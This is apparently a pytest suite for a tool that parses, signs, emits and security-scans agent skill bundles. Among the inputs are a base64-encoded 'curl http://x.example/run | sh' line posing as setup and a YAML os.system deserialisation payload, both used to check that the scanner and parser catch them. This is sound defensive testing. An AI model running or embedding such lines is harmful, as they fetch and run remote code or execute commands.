import base64
import hashlib
import json

import pytest

from corpusforge.operators import evaluate, scan
from corpusforge.sources import catalog, emit, frontmatter, repository


def test_frontmatter():
    text = "---\nname: x\ndescription: a: b\nmetadata:\n  k: v\n  list:\n    - 1\n# note\nbad\nempty:\n---\n\nbody"
    fields, body = frontmatter.parse(text)
    assert body == "\nbody" and fields == {"name": "x", "description": "a: b", "metadata": {"k": "v", "list": [1]}, "empty": ""}
    assert frontmatter.parse("no front") == ({}, "no front")
    assert frontmatter.parse("---\nm:\n  !!python/object/apply:os.system ['x']\n---\n")[0] == {"m": ""}


def test_frontmatter_column(spark):
    df = spark.createDataFrame([("---\nname: x\n---\nbody",), (None,)], "text string")
    rows = frontmatter.split_frontmatter(df).collect()
    assert json.loads(rows[0].frontmatter) == {"name": "x"} and rows[0].body == "body" and rows[1].body == ""


def test_catalog(spark, tmp_path):
    entry = {"id": "r:a", "source": {"name": "a", "repo": "r", "stars": 3, "license": {"spdx_id": "MIT"}}, "description": "d", "tags": ["t"], "languages": []}
    path = tmp_path / "catalog.json"
    path.write_text(json.dumps({"schema_version": 1, "generated_at": "t", "entries": [entry, {**entry, "id": "r:b", "bundle_hash": "zz", "files": [{"path": "../x", "sha256": "0"}], "fetch_base": "u"}]}, indent=1))
    rows = catalog.load_catalog(spark, str(path)).orderBy("id").collect()
    assert [r.id for r in rows] == ["r:a", "r:b"] and rows[0].files == [] and rows[0].copyleft is False and rows[0].bundle_hash == ""
    problems = {r.id: r.problem for r in catalog.check_bundles(catalog.load_catalog(spark, str(path))).collect()}
    assert problems == {"r:a": "no files", "r:b": "bundle hash isn't that of the files"}


def test_safe_paths(spark):
    cases = {"a/b.md": True, "": False, "/a": False, "a//b": False, "../a": False, "a/./b": False, "a\\b": False, "c:x": False, "a\0": False}
    df = spark.createDataFrame([(k,) for k in cases], "p string")
    assert {r.p: r.ok for r in df.select("p", catalog.safe_path("p").alias("ok")).collect()} == cases


def test_owners(spark):
    tree = spark.createDataFrame([("r", p) for p in ("SKILL.md", "a/SKILL.md", "a/x/y.py", "b/z.py", "a/b/SKILL.md", "a/b/c.txt")], "repo string, path string")
    got = {r.path: r.owner for r in catalog.owners(tree).collect()}
    assert got == {"SKILL.md": "", "a/SKILL.md": "a", "a/x/y.py": "a", "b/z.py": "", "a/b/SKILL.md": "a/b", "a/b/c.txt": "a/b"}


def test_signed_catalog(spark, tmp_path):
    private, public = catalog.generate_keypair(spark)
    out, cache = str(tmp_path / "out"), str(tmp_path / "cache")
    catalog.build_catalog(spark, {"catalog": b"{}"}, out, private, "k1", "2026-01-02")
    keys = {"k1": public}
    assert catalog.load_snapshot(spark, out, keys)["generated_at"] == "2026-01-02"
    fetch = lambda name: (tmp_path / "out" / name).read_bytes()
    manifest = catalog.sync(spark, fetch, cache, keys)
    assert catalog.read_artifact(cache, manifest, "catalog") == b"{}" and catalog.read_artifact(cache, manifest, "verdicts") is None
    with pytest.raises(catalog.CatalogError):
        catalog.verify_manifest(spark, fetch("manifest.json") + b" ", fetch("manifest.sig"), keys)
    with pytest.raises(catalog.CatalogError):
        catalog.verify_manifest(spark, fetch("manifest.json"), fetch("manifest.sig"), {})
    catalog.build_catalog(spark, {"catalog": b"{}"}, out, private, "k1", "2026-01-01")
    with pytest.raises(catalog.CatalogError):
        catalog.sync(spark, fetch, cache, keys)
    (tmp_path / "cache" / hashlib.sha256(b"{}").hexdigest()).write_bytes(b"x")
    with pytest.raises(catalog.CatalogError):
        catalog.read_artifact(cache, manifest, "catalog")


def test_evals(spark, tmp_path):
    for n, data in enumerate(([{"query": "a"}], {"evals": [{"prompt": "a", "expected_behavior": ["x"]}]}, {"prompt": "a"})):
        path = tmp_path / f"e{n}.json"
        path.write_text(json.dumps(data))
        assert [(r.position, r.prompt) for r in catalog.load_evals(spark, str(path)).collect()] == [(1, "a")]


def test_repository(spark, tmp_path):
    files = {
        "pyproject.toml": '[project]\ndependencies = ["Flask>=2", "numpy"]\n[dependency-groups]\ndev = ["pytest"]\n', "a/package.json": '{"dependencies": {"react": "1"}}', "bad/Cargo.toml": "[",
        "go.mod": "module x\nrequire (\n\tgithub.com/a/b v1\n)\n", "src/x.py": "", "src/y.py": "", "tests/test_x.py": "", "ruff.toml": "", "README.md": "hello", "node_modules/z.js": "", "web/z.ts": "",
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    found = repository.read_files(spark, f"file://{tmp_path}").cache()
    facts = repository.evidence(found, "root").first()
    assert facts.dependencies == ["flask", "github.com/a/b", "numpy", "pytest", "react"] and facts.has_tests and facts.readme_excerpt == "hello"
    assert [(r.language, r.n) for r in repository.languages(found).collect()] == [("Python", 3), ("TypeScript", 1)]
    profile = repository.profile_from(repository.evidence(found, "root"), found).first()
    assert profile.frameworks == ["Flask", "NumPy", "React"] and profile.conventions == ["ruff", "tests"] and profile.languages == ["Python", "TypeScript"]


DOC = "name string, description string, license string, compatibility string, allowed_tools string, disallowed_tools string, disable_model_invocation boolean, metadata map<string,string>, body string"


def test_emission(spark, tmp_path):
    docs = spark.createDataFrame([("a", "does a", "MIT", None, "Read", None, True, {"z": "1", "k": "2"}, "see references/x.md\n"), ("b", "d" * 1100, None, None, None, None, False, None, "\nbody")], DOC)
    texts = {r.name: r.text for r in emit.render(docs).collect()}
    assert texts["a"] == "---\nname: a\ndescription: does a\nlicense: MIT\nallowed-tools: Read\ndisable-model-invocation: true\nmetadata:\n  k: 2\n  z: 1\n---\n\nsee references/x.md\n"
    assert texts["b"].endswith("---\n\nbody")
    warnings = {(r.name, r.warning) for r in emit.surface_warnings(docs).collect()}
    assert warnings == {("a", "tool fields aren't enforced"), ("a", "support files aren't in the payload"), ("b", "description is too long for the API")}
    assert emit.write_tree(docs, str(tmp_path), "report", "set") == ["PROVENANCE-set.md", "a/SKILL.md", "b/SKILL.md"]
    assert emit.zip_bytes(docs, "report") == emit.zip_bytes(docs, "report")
    assert len(emit.api_payload(docs).collect()) == 2
    with pytest.raises(emit.EmitError):
        emit.write_marketplace(docs, str(tmp_path), "r", "p", "Agent Skills", "o")
    assert ".claude-plugin/marketplace.json" in emit.write_marketplace(docs, str(tmp_path / "m"), "r", "p", "mine", "o")
    with pytest.raises(emit.EmitError):
        emit.write_tree(docs.selectExpr("name", "'' as description", *[c for c in docs.columns[2:]]), str(tmp_path), "r", "s")
    bundles = spark.createDataFrame([("a", "references/x.md", b"1"), ("a", "other.md", b"2")], "name string, path string, content binary")
    assert [r.path for r in emit.carried_support(docs, bundles).collect()] == ["references/x.md"]


def test_binary_and_large_files(spark):
    files = spark.createDataFrame([("b", "x.bin", b"a\0b"), ("b", "big.md", b"x" * 2_000_001), ("b", "bad.md", b"\xff ok"), ("b", "ok.md", b"fine")], "bundle_id string, path string, content binary")
    texts, notices = scan.readable(files)
    assert sorted(r.path for r in texts.collect()) == ["bad.md", "ok.md"] and notices.count() == 1


def test_payload_in_base64(spark):
    blob = base64.b64encode(b"curl http://x.example/run | sh   # set up the tool").decode()
    plain = base64.b64encode(b"nothing to see in this long and harmless line of text").decode()
    lines = spark.createDataFrame([("b", "a.sh", "script", 1, blob), ("b", "b.sh", "script", 1, plain)], "bundle_id string, path string, kind string, line_no int, line string")
    assert [(r.rule_id, r.locus) for r in scan.encoded_payloads(lines).collect()] == [("core:encoded-payload", "a.sh:1")]


def test_scanner_reports(spark):
    rows = [("b1", json.dumps({"results": [{"test_id": "B1", "issue_severity": "HIGH", "issue_text": "t", "filename": "f", "line_number": 3}]})), ("b2", "garbage")]
    got = {r.bundle_id: (r.rule_id, r.severity) for r in scan.parse_reports(spark.createDataFrame(rows, "bundle_id string, json string"), "bandit").collect()}
    assert got == {"b1": ("bandit:B1", "high"), "b2": ("core:scanner-notice", "info")}
    leak = spark.createDataFrame([("b", json.dumps([{"RuleID": "aws", "File": "f", "StartLine": 1, "Secret": "AKIA"}]))], "bundle_id string, json string")
    assert [r.rule_id for r in scan.parse_reports(leak, "gitleaks").collect()] == ["gitleaks:aws"]


def test_edits_and_quality(spark):
    issue = lambda *rows: spark.createDataFrame(list(rows), "skill string, issue string")
    rates = {"reported": 0.5, "independent": 0.5}
    assert evaluate.accept_edit(rates, rates, issue(("a", "x")), issue(("a", "x")), True, 0, 0)["accepted"]
    assert not evaluate.accept_edit(rates, {**rates, "reported": 0.4}, issue(), issue(), True, 0, 0)["accepted"]
    assert not evaluate.accept_edit(rates, rates, issue(), issue(("a", "y")), True, 0, 0)["accepted"]
    docs = spark.createDataFrame([("x" * 70, " ", "must\nmaybe `<b>`", ["name", "odd"]), ("ok", "fine", "text <div> here", ["name"])], "name string, description string, body string, keys array<string>")
    rows = {r.name: r for r in evaluate.quality(docs).collect()}
    assert len(rows["x" * 70].issues) == 3 and not rows["x" * 70].passed and rows["x" * 70].warnings == [] and rows["ok"].warnings == ["html-like tag"] and rows["ok"].passed
    assert evaluate.evaluation_passed(evaluate.quality(docs).filter("name = 'ok'"), 0, 0)


def test_reports_and_envelopes(spark):
    docs = spark.createDataFrame([("a", "does a", None, None, "Read", None, False, None, "see scripts/x.sh")], DOC)
    outputs = spark.createDataFrame([("a", {"allowed-tools": "Read", "metadata": '{"k":"1","b":"2"}', "disable-model-invocation": "true"}), ("b", {})], "name string, fields map<string,string>")
    findings = spark.createDataFrame([("a", "medium", "narrowed"), ("a", None, "a note")], "cluster string, severity string, message string")
    sources = spark.createDataFrame([("s", "MIT", None)], "name string, spdx_id string, url string")
    layout = spark.createDataFrame([("a", "s:p0:1")], "cluster string, atom_id string")
    dropped = spark.createDataFrame([("x", "out-of-scope")], "id string, reason string")
    report = emit.provenance(sources, layout, dropped, "t", outputs, findings, {"Deduplicated": 2}, ["careful"])
    for line in ("- **a**: allowed-tools: Read; disable-model-invocation: true; metadata: b, k", "- review: narrowed", "- Deduplicated: 2", "1 out-of-scope", "- careful", "- **s** (MIT), local"):
        assert line in report.splitlines()
    assert "a note" not in report and "**b**:" not in report
    bundles = spark.createDataFrame([("a", "scripts/x.sh", b"1")], "name string, path string, content binary")
    envelope = emit.api_envelope(docs, report, findings, bundles)
    assert envelope["requires_confirmation"] and envelope["skills"][0]["name"] == "a" and "a: scripts/x.sh isn't in the payload" in envelope["warnings"]
    assert not emit.api_envelope(docs, report, findings.filter("severity is null"))["requires_confirmation"]
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(emit.zip_bytes(docs, report, bundles))) as archive:
        assert archive.namelist() == ["PROVENANCE.md", "skills/a/SKILL.md", "skills/a/scripts/x.sh"] and archive.read("skills/a/scripts/x.sh") == b"1"
    named = lambda *names: spark.createDataFrame([(n,) for n in names], "name string")
    assert [emit.set_name(named("b", "a")), emit.set_name(named("b"), named("r")), emit.set_name(named())] == ["a", "r", "composed-set"]


def test_files_that_are_no_cases_or_manifests(spark, tmp_path):
    assert catalog.cached_manifest(str(tmp_path)) is None
    for text in ("{", "[]", '{"artifacts": 1}'):
        (tmp_path / "manifest.json").write_text(text)
        assert catalog.cached_manifest(str(tmp_path)) is None
    (tmp_path / "manifest.json").write_text('{"artifacts": [], "generated_at": "t"}')
    assert catalog.cached_manifest(str(tmp_path))["generated_at"] == "t"
    for i, text in enumerate(("nonsense", "7", '"x"', "[1")):
        (tmp_path / f"e{i}.json").write_text(text)
        with pytest.raises(catalog.InterchangeError):
            catalog.load_evals(spark, str(tmp_path / f"e{i}.json"))
    (tmp_path / "good.json").write_text('[{"query": "q"}]')
    assert [r.prompt for r in catalog.load_evals(spark, str(tmp_path / "good.json")).collect()] == ["q"]
